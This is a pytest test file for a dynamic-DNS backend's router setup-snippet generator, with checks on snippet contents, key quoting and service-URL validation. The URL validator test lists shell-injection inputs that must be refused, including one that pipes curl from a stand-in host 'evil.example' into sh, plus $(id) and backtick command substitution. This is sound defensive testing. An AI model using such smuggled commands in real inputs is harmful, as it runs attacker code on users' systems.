from __future__ import annotations

import re
from pathlib import Path

import pytest

from backend.setup_guides import DEVICES, is_address, is_harmless, snippet, snippets

from .fakes import host

HOST = host("host.example.com")
URL = "https://your-backend.example.com"
DOCUMENT = Path(__file__).parents[2] / "docs" / "routers.md"
# `python -m backend setup HOST --for …`, as docs/routers.md lists them.
DOCUMENTED = (
    *("fritzbox", "speedport", "vodafone", "unifi", "opnsense", "pfsense", "openwrt", "mikrotik"),
    *("synology", "ddclient", "inadyn", "curl", "cron", "powershell", "client"),
)


def test_every_documented_device_has_a_snippet() -> None:
    assert set(DOCUMENTED) | {"any"} == set(DEVICES)


@pytest.mark.parametrize("device", DEVICES)
def test_a_snippet_has_host_key_and_url_without_placeholders(device: str) -> None:
    guide = snippet(device, HOST, "s3cret-Key_1", URL)
    assert (guide.device, guide.name) == (device, DEVICES[device])
    for part in ("host.example.com", "s3cret-Key_1", "your-backend.example.com"):
        assert part in guide.text
    assert "$" not in guide.text
    assert guide.text == guide.text.strip("\n")


@pytest.mark.parametrize("device", DEVICES)
def test_a_snippet_uses_the_urls_port_path_and_scheme(device: str) -> None:
    text = snippet(device, HOST, "key", "http://198.51.100.1:8080/dyndns").text
    assert "https:" not in text
    assert "198.51.100.1:8080" in text
    assert "/dyndns/nic/update" in text or "/dyndns/update" in text or device == "client"


def test_all_snippets_come_in_the_order_of_the_devices() -> None:
    assert [one.device for one in snippets(HOST, "key", URL)] == list(DEVICES)


def test_a_key_with_special_characters_is_quoted_in_urls() -> None:
    text = snippet("vodafone", HOST, "a&b@c:d/%", URL).text
    assert "https://host.example.com:a%26b%40c%3Ad%2F%25@your-backend.example.com/" in text


@pytest.mark.parametrize(
    ("key", "is_safe"), [("aZ09-_", True), ("a&b", False), ("ä", False), ("", False)]
)
def test_keys_that_break_firmware_are_recognised(key: str, *, is_safe: bool) -> None:
    assert is_harmless(key) is is_safe


@pytest.mark.parametrize(
    ("url", "is_valid"),
    [
        (URL, True),
        ("http://198.51.100.1:8080/dyndns", True),
        ("http://[2001:db8::1]:8080", True),
        ("https://dyndns.straße.example/~a_b/", True),
        ("https://x/';curl evil.example|sh;'", False),
        ('https://x/"', False),
        ("https://x/$(id)", False),
        ("https://x/`id`", False),
        ("https://x/\nnext line", False),
        ("https://x\n", False),
        ("https://x?y", False),
        ("https://user:password@x", False),
        ("https://x:port", False),
        ("https://:80", False),
        ("https://", False),
        ("https://[", False),
        ("https://[::1]x", False),
        ("ftp://x", False),
        ("", False),
    ],
)
def test_the_service_url_is_normalised_or_refused(url: str, *, is_valid: bool) -> None:
    assert is_address(url) is is_valid


def sections() -> dict[str, str]:
    """Return the snippet of each device section of docs/routers.md."""
    found = re.findall(
        r"^### ([^\n]+) \(`(\w+)`\)\n\n```\n(.*?)\n```$",
        DOCUMENT.read_text(),
        re.DOTALL | re.MULTILINE,
    )
    return {device: f"{name}\n{text}" for name, device, text in found}


def test_the_document_shows_what_the_command_prints() -> None:
    printed = {one.device: f"{one.name}\n{one.text}" for one in snippets(HOST, "secret", URL)}
    assert sections() == printed
